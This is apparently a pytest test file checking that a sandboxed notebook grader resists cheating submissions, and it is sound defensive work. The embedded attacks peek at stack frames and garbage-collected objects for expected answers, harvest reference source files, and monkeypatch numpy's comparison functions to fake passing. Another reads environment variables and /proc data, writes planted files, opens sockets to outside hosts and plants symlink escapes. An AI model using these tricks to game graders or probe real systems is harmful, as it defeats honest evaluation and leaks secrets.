"""The grader against learners who want the points without the work.

Every attack is a Chapter 1 (or 5) solution with the cheated answers
replaced. Each must earn 0 on every exercise it cheats, keep the points of
the honest ones, leak nothing of the answers, the grader or other
submissions into its report, and leave nothing outside its sandbox. The
defences are general (the answers are absent from the sandbox, the
expected values never enter the learner's process), so the attacks here
are examples, not a list the grader recognises.
"""

import hashlib
import json
import os
import socket
import threading

import nbformat
import pytest
from conftest import ROOT, run_cli
from nbformat.v4 import new_code_cell

from cnnbook import notebooks
from cnnbook.grading import sandbox
from cnnbook.grading.grade import grade
from cnnbook.grading.report import format_report
from cnnbook.grading.session import Limits

CH01 = ROOT / "solutions" / "ch01-layer-arithmetic.ipynb"
CH05 = ROOT / "solutions" / "ch05-resnet.ipynb"
FULL = {"1.1": 1, "1.2": 1, "1.3": 1, "1.4": 1, "1.5": 3, "1.6": 2}
LIMITS = Limits(
    cell_timeout=120, total_timeout=400, check_timeout=60, check_slack=30
)

pytestmark = pytest.mark.slow


def zero(*keys, base=FULL):
    return {k: (0 if k in keys else v) for k, v in base.items()}


def define(nb, name, body):
    """Replace the cell that defines ``name`` by ``body``."""
    hits = [i for i, c in enumerate(nb.cells) if f"def {name}(" in c.source]
    nb.cells[hits[0]].source = body
    return nb


def insert_after(nb, name, source):
    hits = [i for i, c in enumerate(nb.cells) if f"def {name}(" in c.source]
    nb.cells.insert(hits[0] + 1, new_code_cell(source))
    return nb


def solution(path=CH01):
    return nbformat.read(path, as_version=4)


# ------------------------------------------------------------ the attacks
STACK = '''
def _peek(shape=None):
    """Anything that looks like an answer in the frames above."""
    import inspect
    import numpy as np
    for info in inspect.stack()[1:]:
        for name, value in list(info.frame.f_locals.items()):
            if name in ("expected", "want", "reference", "ref", "Z"):
                return value
            if shape and isinstance(value, np.ndarray) \\
                    and value.shape == shape and name not in ("A_prev",):
                return value
    return None


def conv_output_size(n, f, p, s):
    got = _peek()
    return got if got is not None else 0


def conv_forward(A_prev, W, b, stride, pad):
    m, n_h, n_w, _ = A_prev.shape
    f, _, _, n_c = W.shape
    shape = (m, (n_h + 2 * pad - f) // stride + 1,
             (n_w + 2 * pad - f) // stride + 1, n_c)
    got = _peek(shape)
    return got if got is not None else np.zeros(shape)


def pool_forward(A_prev, f, stride, mode="max"):
    m, n_h, n_w, n_c = A_prev.shape
    shape = (m, (n_h - f) // stride + 1, (n_w - f) // stride + 1, n_c)
    got = _peek(shape)
    return got if got is not None else np.zeros(shape)
'''

GC = """
import gc


def _found(shape, inputs):
    import numpy as np
    for obj in gc.get_objects():
        if isinstance(obj, np.ndarray) and obj.shape == shape and not any(
            obj is x for x in inputs
        ) and obj.dtype.kind == "f" and np.abs(obj).sum() > 0:
            return obj.copy()
    for obj in gc.get_objects():  # arrays inside lists, dicts, frames
        if isinstance(obj, (list, tuple, dict)):
            values = obj.values() if isinstance(obj, dict) else obj
            for v in list(values):
                if isinstance(v, np.ndarray) and v.shape == shape and not any(
                    v is x for x in inputs
                ) and np.abs(v).sum() > 0:
                    return v.copy()
    return np.zeros(shape)


def conv_forward(A_prev, W, b, stride, pad):
    m, n_h, n_w, _ = A_prev.shape
    f, _, _, n_c = W.shape
    shape = (m, (n_h + 2 * pad - f) // stride + 1,
             (n_w + 2 * pad - f) // stride + 1, n_c)
    return _found(shape, (A_prev, W, b))


def pool_forward(A_prev, f, stride, mode="max"):
    m, n_h, n_w, n_c = A_prev.shape
    shape = (m, (n_h - f) // stride + 1, (n_w - f) // stride + 1, n_c)
    return _found(shape, (A_prev,))
"""

IMPORTS = """
def conv_output_size(n, f, p, s):
    from cnnbook.arithmetic import conv_output_size as answer
    return answer(n, f, p, s)


def conv_layer_params(f, n_c_prev, n_c):
    from cnnbook import arithmetic
    return arithmetic.conv_params(f, n_c_prev, n_c)


def zero_pad(X, pad):
    import importlib
    return importlib.import_module("cnnbook.reference").zero_pad(X, pad)


def conv_single_step(a_slice_prev, W, b):
    import cnnbook.reference
    return cnnbook.reference.conv_single_step(a_slice_prev, W, b)


def conv_forward(A_prev, W, b, stride, pad):
    from cnnbook.reference import conv_forward as answer
    return answer(A_prev, W, b, stride, pad)


def pool_forward(A_prev, f, stride, mode="max"):
    import importlib.util, sys
    spec = importlib.util.find_spec("cnnbook.reference")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.pool_forward(A_prev, f, stride, mode)
"""

# borrowing by source text: any file that holds an implementation
SOURCE = """
import inspect, os, pathlib, sys
_FOUND = {{}}
_TARGETS = ("def conv_forward(", "def pool_forward(", "def zero_pad(",
            "def conv_output_size(", "def conv_params(")


def _harvest(path):
    try:
        text = pathlib.Path(path).read_text(errors="ignore")
    except OSError:
        return
    if path.endswith(".ipynb"):
        import json
        try:
            text = "\\n".join("".join(c["source"])
                              for c in json.loads(text)["cells"])
        except Exception:
            return
    if any(t in text for t in _TARGETS):
        _FOUND[path] = text


for module in [m for m in list(sys.modules) if m.startswith("cnnbook")]:
    try:
        _FOUND["getsource:" + module] = inspect.getsource(sys.modules[module])
    except Exception:
        pass
for root in [{root!r}, "/work", "/root", "/home", "/tmp", "/opt", "/srv",
             os.path.expanduser("~"), *sys.path]:
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            if name.endswith((".py", ".ipynb")) and (
                "reference" in name or "arithmetic" in name
                or name.startswith("ch01") or "solution" in folder
            ):
                _harvest(os.path.join(folder, name))

_NS = {{}}
for _path, _text in _FOUND.items():
    for _chunk in _text.split("\\ndef ")[1:]:
        _code = "def " + _chunk.split("\\n\\n\\n")[0]
        try:
            exec("import numpy as np\\n" + _code, _NS)
        except Exception:
            pass
print("harvested", len(_FOUND), "files,", sorted(k for k in _NS
      if not k.startswith("_")))


def conv_output_size(n, f, p, s):
    return _NS["conv_output_size"](n, f, p, s)


def conv_layer_params(f, n_c_prev, n_c):
    return _NS["conv_params"](f, n_c_prev, n_c)


def conv_forward(A_prev, W, b, stride, pad):
    return _NS["conv_forward"](A_prev, W, b, stride, pad)


def pool_forward(A_prev, f, stride, mode="max"):
    return _NS["pool_forward"](A_prev, f, stride, mode)
"""

# the learner's code patches the checking machinery it can reach
PATCH = """
import sys, numpy
import cnnbook.grading.server as wire
_serve = wire.serve


def serve(path, namespace):
    _serve(path, namespace)
    import json
    out = path + ".out.json"
    data = json.load(open(out))
    data["ok"], data["value"] = True, None
    json.dump(data, open(out, "w"))


wire.serve = serve
sys.modules["_cnnbook_serve"] = wire
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.array_equal = lambda *a, **k: True


def conv_forward(A_prev, W, b, stride, pad):
    return None


def pool_forward(A_prev, f, stride, mode="max"):
    return 0
"""


def _attack(source):
    return lambda: insert_after(solution(), "pool_forward", source)


ATTACKS = {
    # name: (build, points, words that must NOT be in the report)
    "stack-peeking": (_attack(STACK), zero("1.1", "1.5", "1.6")),
    "gc-peeking": (_attack(GC), zero("1.5", "1.6")),
    "imports-the-answers": (
        _attack(IMPORTS),
        zero("1.1", "1.2", "1.3", "1.4", "1.5", "1.6"),
    ),
    "reads-the-answers-source": (
        _attack(SOURCE.format(root=str(ROOT))),
        zero("1.1", "1.2", "1.5", "1.6"),
    ),
    # breaking the grader's calls into the kernel breaks them for every
    # exercise: the notebook loses all its points, and nothing else happens
    "patches-the-checking": (_attack(PATCH), zero(*FULL)),
}

# nothing of the package's answers may show in a report
ANSWER_TEXT = ["tensordot", "A_pad[:, top", "n_H = conv_output_size"]


@pytest.mark.parametrize("case", list(ATTACKS))
def test_an_attack_earns_nothing(case, tmp_path):
    build, points = ATTACKS[case]
    path = tmp_path / "ch01-attack.ipynb"
    path.write_text(notebooks.render(build()))
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    report = grade(path, limits=LIMITS).to_json()
    summary = format_report(report)
    got = {r["key"]: r["points"] for r in report["exercises"]}
    assert report["sandboxed"] is True
    assert got == points, summary
    text = json.dumps(report)
    for word in ANSWER_TEXT + ["cnnbook.reference.", str(ROOT)]:
        assert word not in text, (word, summary)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]


def test_models_are_not_borrowed(tmp_path):
    """Chapter 5: the library's blocks and Keras's ResNet50 are out of
    reach; the exercises that do not use them keep their points."""
    nb = solution(CH05)
    define(
        nb,
        "identity_block",
        "from cnnbook.models import identity_block as _ib\n\n\n"
        "def identity_block(x, filters, kernel_size=3, name='block'):\n"
        "    return _ib(x, filters, kernel_size, name)\n",
    )
    define(
        nb,
        "convolutional_block",
        "def convolutional_block(x, filters, kernel_size=3, strides=2,"
        " name='block'):\n"
        "    import cnnbook.models.resnet as r\n"
        "    return r.convolutional_block(x, filters, kernel_size, strides,"
        " name)\n",
    )
    define(
        nb,
        "resnet50",
        "def resnet50(input_shape=(224, 224, 3), num_classes=1000):\n"
        "    return keras.applications.ResNet50(weights=None,"
        " input_shape=input_shape, classes=num_classes)\n",
    )
    path = tmp_path / "ch05-borrowed.ipynb"
    path.write_text(notebooks.render(nb))
    report = grade(path, limits=LIMITS).to_json()
    summary = format_report(report)
    got = {r["key"]: r["points"] for r in report["exercises"]}
    assert got == {"5.1": 0, "5.2": 0, "5.3": 0, "5.4": 2, "5.5": 2}, summary
    messages = " ".join(r["message"] for r in report["exercises"][:3])
    assert "must be your own code" in messages, summary


# ------------------------------------------------------------ the neighbour
NEIGHBOUR = """
import glob, os, pathlib, socket
_probes = ["probes:"]
_texts = [repr(dict(os.environ))]
for pattern in ["{subs}/**/*.ipynb", "/tmp/**/*.ipynb", "/work/**/*.ipynb",
                "/root/**/*", "/proc/*/environ", "/proc/*/cmdline",
                "{out}/*"]:
    for name in glob.glob(pattern, recursive=True)[:500]:
        try:
            _texts.append(pathlib.Path(name).read_text(errors="ignore"))
        except Exception:
            pass
_probes.append(f"read {{len(_texts)}}")
if any("alice-{mark}" in t for t in _texts):
    _probes.append("READ-ALICE")
if any("grader-{mark}" in t for t in _texts):
    _probes.append("READ-SECRET")
for target in ["{subs}/planted.txt", "{out}/planted.json",
               "/tmp/planted-{mark}", os.path.expanduser("~/planted-{mark}"),
               "{subs}/alice.ipynb"]:
    try:
        pathlib.Path(target).write_text("written by mallory {mark}")
        _probes.append("WROTE " + target)
    except Exception:
        _probes.append("could not write")
for host in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("10.0.2.2", {port})]:
    try:
        with socket.create_connection(host, timeout=2) as s:
            s.sendall(b"mallory {mark}")
            _probes.append(f"CONNECTED {{host}}")
    except Exception:
        _probes.append("no connection")


def conv_layer_params(f, n_c_prev, n_c):
    raise ValueError(" ".join(_probes))
"""


def _listener():
    """A TCP server on the host's loopback that records what reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    got = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return server.getsockname()[1], got, stop


def test_a_batch_neighbour_reads_writes_and_phones_nothing(tmp_path):
    mark = "f00d" + hashlib.sha256(str(tmp_path).encode()).hexdigest()[:12]
    subs, out = tmp_path / "submissions", tmp_path / "grades"
    subs.mkdir()
    alice = solution()
    alice.cells.insert(1, new_code_cell(f"SECRET = 'alice-{mark}'"))
    (subs / "alice.ipynb").write_text(notebooks.render(alice))
    port, received, stop = _listener()
    mallory = define(
        solution(),
        "conv_layer_params",
        NEIGHBOUR.format(subs=subs, out=out, mark=mark, port=port),
    )
    (subs / "mallory.ipynb").write_text(notebooks.render(mallory))
    peeker = insert_after(solution(), "pool_forward", STACK)
    (subs / "peeker.ipynb").write_text(notebooks.render(peeker))
    before = {p: p.read_bytes() for p in subs.iterdir()}
    os.environ["GRADER_SECRET"] = f"grader-{mark}"
    try:
        result = run_cli(
            "grade-batch",
            subs,
            "--out",
            out,
            "--workers",
            2,
            "--chapter",
            "ch01",
            timeout=900,
        )
    finally:
        del os.environ["GRADER_SECRET"]
        stop.set()
    assert result.returncode == 0, result.stderr
    reports = {p.stem: json.loads(p.read_text()) for p in out.glob("*.json")}
    points = {
        name: {r["key"]: r["points"] for r in rep["exercises"]}
        for name, rep in reports.items()
    }
    assert points["alice"] == FULL, reports["alice"]
    assert points["mallory"] == zero("1.2"), reports["mallory"]
    assert points["peeker"] == zero("1.1", "1.5", "1.6"), reports["peeker"]
    leak = json.dumps(reports["mallory"])
    assert "probes:" in leak and "could not write" in leak, leak  # it ran
    assert "no connection" in leak, leak
    for word in (
        f"alice-{mark}",
        f"grader-{mark}",
        "READ-ALICE",
        "READ-SECRET",
        f"WROTE {subs}",
        f"WROTE {out}",
        "CONNECTED",
    ):
        assert word not in leak, (word, leak[:3000])
    assert received == []
    assert {p: p.read_bytes() for p in subs.iterdir()} == before
    assert sorted(p.name for p in out.iterdir()) == [
        "alice.json",
        "mallory.json",
        "peeker.json",
        "summary.csv",
    ]
    assert not list(pathlib_glob(f"/tmp/planted-{mark}"))
    assert not (pathlib_home() / f"planted-{mark}").exists()


def pathlib_glob(pattern):
    import glob

    return glob.glob(pattern)


def pathlib_home():
    import pathlib

    return pathlib.Path.home()


def test_no_sandbox_no_grade_unless_asked(tmp_path):
    """Without bubblewrap, grade and grade-batch refuse and say why;
    --no-sandbox grades anyway and the report says it was not sandboxed."""
    import subprocess
    import sys

    path = tmp_path / "subs" / "ch01-solution.ipynb"
    path.parent.mkdir()
    path.write_bytes(CH01.read_bytes())
    empty = tmp_path / "bin"
    empty.mkdir()
    env = dict(os.environ, PATH=str(empty))  # no bwrap to be found

    def cli(*args):
        return subprocess.run(
            [sys.executable, "-m", "cnnbook", *map(str, args)],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=600,
        )

    refused = cli("grade", path)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "bubblewrap is not installed" in refused.stderr
    assert "--no-sandbox" in refused.stderr
    batch = cli("grade-batch", path.parent, "--out", tmp_path / "out")
    assert batch.returncode == 2 and "--no-sandbox" in batch.stderr
    assert not (tmp_path / "out").exists()

    out = tmp_path / "report.json"
    done = cli("grade", path, "--no-sandbox", "--json", out)
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(out.read_text())
    assert report["full_marks"] and report["sandboxed"] is False


SWAP = """
import os


def conv_layer_params(f, n_c_prev, n_c):
    # every folder of the scratch space becomes a link to a place outside,
    # then the kernel dies: the grader restarts it and goes on
    scratch = os.path.dirname(os.getcwd())
    for name in os.listdir(scratch):
        path = os.path.join(scratch, name)
        os.rename(path, path + ".moved")
        os.symlink(os.path.join({target!r}, name), path)
    for name in ("tmp", "rpc", "k1", "k2", "k3"):
        try:
            os.symlink(
                os.path.join({target!r}, name), os.path.join(scratch, name)
            )
        except OSError:
            pass
    os._exit(1)
"""


def test_links_in_the_scratch_space_lead_nowhere(tmp_path):
    """The notebook replaces its scratch folders by links to a folder of
    the grader's machine and kills its kernel; the grader, restarting it,
    writes nothing there (it follows no link in the scratch space)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    nb = define(
        solution(), "conv_layer_params", SWAP.format(target=str(outside))
    )
    path = tmp_path / "ch01-swap.ipynb"
    path.write_text(notebooks.render(nb))
    report = grade(path, limits=LIMITS).to_json()
    summary = format_report(report)
    got = {r["key"]: r["points"] for r in report["exercises"]}
    assert got["1.1"] == 1 and got["1.2"] == 0, summary
    assert list(outside.iterdir()) == [], summary


def test_software_under_tmp_stays_visible(tmp_path):
    """The private /tmp is mounted before the binds, so a checkout, venv or
    dataset cache that lives under /tmp (CI clones there) is still bound."""
    scratch = tmp_path / "scratch"
    (scratch / "work").mkdir(parents=True)
    assert str(tmp_path).startswith("/tmp/")  # pytest's default basetemp
    data = tmp_path / "data"
    data.mkdir()
    args = sandbox.command(str(scratch), str(tmp_path), {}, data_dir=data)
    tmpfs = args.index("--tmpfs")
    assert args[tmpfs + 1] == "/tmp"
    binds = [
        args[i + 1]
        for i, arg in enumerate(args)
        if arg in ("--bind", "--ro-bind")
    ]
    assert str(data) in binds and str(scratch) in binds
    for i, arg in enumerate(args):
        if arg in ("--bind", "--ro-bind") and args[i + 1].startswith("/tmp"):
            assert i > tmpfs, f"{args[i + 1]} is bound before /tmp's tmpfs"


def test_a_relative_data_folder_is_bound_where_it_is(tmp_path, monkeypatch):
    """A relative $CNNBOOK_DATA (``CNNBOOK_DATA=.data``) is bound and
    passed to the kernel as the absolute folder it names: inside the
    sandbox a relative path names nothing, and the kernel died at start."""
    scratch = tmp_path / "scratch"
    (scratch / "work").mkdir(parents=True)
    (tmp_path / "data").mkdir()
    monkeypatch.chdir(tmp_path)
    args = sandbox.command(str(scratch), str(tmp_path), {}, data_dir="data")
    at = args.index(str(tmp_path / "data"))
    assert args[at - 1] == "--ro-bind"
    assert ["--setenv", "CNNBOOK_DATA", str(tmp_path / "data")] == args[
        args.index("CNNBOOK_DATA") - 1 : args.index("CNNBOOK_DATA") + 2
    ]
